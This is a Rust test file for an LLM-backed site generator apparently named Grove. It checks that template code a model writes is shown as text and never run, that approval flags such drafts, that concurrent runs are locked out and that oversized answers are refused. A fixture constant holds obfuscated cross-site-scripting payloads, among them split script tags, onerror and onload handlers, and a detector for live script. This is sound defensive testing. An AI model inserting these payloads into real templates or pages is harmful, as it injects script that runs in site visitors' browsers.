fn live_code(html: &str) -> Vec<String> {
    let document = scraper::Html::parse_document(html);
    let mut found = Vec::new();
    for element in document.select(&scraper::Selector::parse("*").unwrap()) {
        let name = element.value().name();
        if name == "script" && element.value().attr("type") != Some("application/ld+json") {
            found.push(format!("<script>{}", element.inner_html()));
        }
        for (attr, value) in element.value().attrs() {
            if attr.starts_with("on") {
                found.push(format!("<{name} {attr}={value}>"));
            }
        }
    }
    found
}

/// [`network`] with one brief and the quality gate off, so `approve`
/// refuses drafts for what they hold, not for audit findings.
fn network_without_gate(server: &FakeLlm) -> Fixture {
    let net = network(server, 1, &[]);
    net.write(
        "grove.toml",
        &format!("{}\n[quality]\ngate = \"off\"\n", net.read("grove.toml")),
    );
    net
}

/// Template code that builds markup, as a hostile model would write it.
const HOSTILE_TERA: &str = r#"{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}

{{ "<img src=x one" ~ "rror=alert(2)>" | safe }}

{% set tag = "<scr" ~ "ipt>alert(3)</scr" ~ "ipt>" %}{{ tag }}

{% macro evil() %}<img src=x onerror=alert(4)>{% endmacro evil %}

{{ "<svg onload=alert(5)>" | replace(from="svg", to="svg") }}

{% raw %}<script>alert(6)</script>{% endraw %}
"#;

#[test]
fn template_code_from_the_model_is_printed_as_text_and_never_runs() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, _| Reply::Text(format!("{}\n\n{HOSTILE_TERA}", article_for(req, 120))));
    let net = network_without_gate(&server);
    ok(&draft(&net, &["--site", "alpha"]));
    let rel = "sites/alpha/content/guides/guide-1.md";
    let review = ok(&net.grove(&["review"]));
    assert!(!review.contains("template code"), "{review}");
    let path = net.path().join(rel);
    let approved = ok(&net.grove(&["approve", path.to_str().unwrap()]));
    assert!(
        approved.contains("1 approved; it is published"),
        "{approved}"
    );
    net.build(&[]);
    let page = std::fs::read_to_string(net.out("alpha/guides/guide-1/index.html")).unwrap();
    assert_eq!(live_code(&page), Vec::<String>::new());
    // The reader sees what the model wrote, as text.
    let text = scraper::Html::parse_document(&page)
        .root_element()
        .text()
        .collect::<String>();
    assert!(
        text.contains(r#"{{ "<scr" ~ "ipt>alert(1)</scr" ~ "ipt>" }}"#),
        "{text}"
    );
}

#[test]
fn approve_refuses_a_draft_with_template_code_and_the_build_sanitizes_it() {
    let server = FakeLlm::start(Some(KEY));
    let net = network_without_gate(&server);
    ok(&draft(&net, &["--site", "alpha"]));
    // Template code pasted into the draft (or left by an older Grove).
    let rel = "sites/alpha/content/guides/guide-1.md";
    let text = net.read(rel);
    let lines_before = text.lines().count();
    net.write(rel, &format!("{text}\nShort {{{{ site.title }}}} and {{{{ cta(slug=\"widget-pro\") }}}}.\n\n{HOSTILE_TERA}"));
    let path = net.path().join(rel);
    let review = ok(&net.grove(&["review"]));
    assert!(review.contains("template code"), "{review}");
    let refused = net.grove(&["approve", path.to_str().unwrap()]);
    assert!(!refused.status.success());
    let stdout = String::from_utf8_lossy(&refused.stdout);
    // Each piece is named with its line; plain values and calls are not.
    let first = lines_before + 4;
    assert!(
        stdout.contains(&format!("guide-1.md:{first}: `{{{{ \"<scr\" ~")),
        "{stdout}"
    );
    assert!(stdout.contains("{% set tag"), "{stdout}");
    assert!(stdout.contains("{% macro evil"), "{stdout}");
    assert!(
        !stdout.contains("site.title") && !stdout.contains("cta("),
        "{stdout}"
    );
    assert!(
        stdout.contains("0 approved: nothing is published."),
        "{stdout}"
    );
    assert!(!stdout.contains("published by the next"), "{stdout}");
    assert!(net.read(rel).contains("\ndraft = true\n"));
    // Forced through, it is still published through the sanitizer.
    ok(&net.grove(&["approve", "--force", path.to_str().unwrap()]));
    net.build(&[]);
    let page = std::fs::read_to_string(net.out("alpha/guides/guide-1/index.html")).unwrap();
    assert_eq!(live_code(&page), Vec::<String>::new());
    assert!(page.contains("Short Alpha and"), "{page}");
    // A page a person wrote is theirs: its template code runs as written.
    net.write(
        "sites/alpha/content/mine.md",
        "+++\ntitle = \"Mine\"\n+++\n{{ \"<b id=\" ~ \"mine>bold</b>\" }}\n",
    );
    net.build(&[]);
    let mine = net.html("alpha/mine/index.html");
    assert_eq!(common::texts(&mine, "b#mine"), ["bold"]);
}

#[test]
fn two_drafts_at_once_pay_for_each_brief_once() {
    let server = FakeLlm::start(Some(KEY));
    server.set_latency(Duration::from_millis(400));
    let net = network(&server, 2, &[]);
    let spawn = || net.command(["draft"]).env(KEY_ENV, KEY).spawn().unwrap();
    let first = spawn();
    std::thread::sleep(Duration::from_millis(150));
    let second = spawn().wait_with_output().unwrap();
    let first = first.wait_with_output().unwrap();
    assert!(
        first.status.success(),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    assert!(!second.status.success());
    let stderr = String::from_utf8_lossy(&second.stderr);
    assert!(
        stderr.contains(&format!(
            "is already running on this network (pid {})",
            first_pid(&net)
        )),
        "{stderr}"
    );
    assert_eq!(server.count(), 4, "each of 2 briefs x 2 sites paid once");
    // While a run holds the lock, research (which pays too) is refused the
    // same way; a dry run pays nothing and goes ahead.
    let _held = hold_model_lock(&net);
    let research = net.grove_env(
        &["research", "--site", "alpha", "--count", "2"],
        &[(KEY_ENV, KEY)],
    );
    assert!(!research.status.success());
    let stderr = String::from_utf8_lossy(&research.stderr);
    assert!(
        stderr.contains("is already running on this network"),
        "{stderr}"
    );
    ok(&draft(&net, &["--dry-run"]));
    assert_eq!(server.count(), 4);
}

/// The pid the model lock file names.
fn first_pid(net: &Fixture) -> String {
    net.read(".grove/locks/model.lock").trim().to_string()
}

/// Holds the model lock as another run would.
fn hold_model_lock(net: &Fixture) -> std::fs::File {
    let file = std::fs::OpenOptions::new()
        .write(true)
        .open(net.path().join(".grove/locks/model.lock"))
        .unwrap();
    file.lock().unwrap();
    file
}

#[test]
fn an_endless_answer_is_refused_and_nothing_is_written() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|_, _| Reply::Text("word ".repeat(4 << 20)));
    let net = network(&server, 1, &[("max_retries", "3"), ("timeout_secs", "60")]);
    for stream in ["false", "true"] {
        let config = net.read("grove.toml");
        net.write(
            "grove.toml",
            &format!(
                "{}stream = {stream}\n",
                config.replace("stream = false\n", "")
            ),
        );
        let output = draft(&net, &["--site", "alpha"]);
        assert!(!output.status.success());
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(all.contains("the answer is over 16 MB"), "{all}");
        assert!(drafted(&net).is_empty(), "{:?}", drafted(&net));
    }
    // Refused at once: another attempt would get the same.
    assert_eq!(server.count(), 2);
}
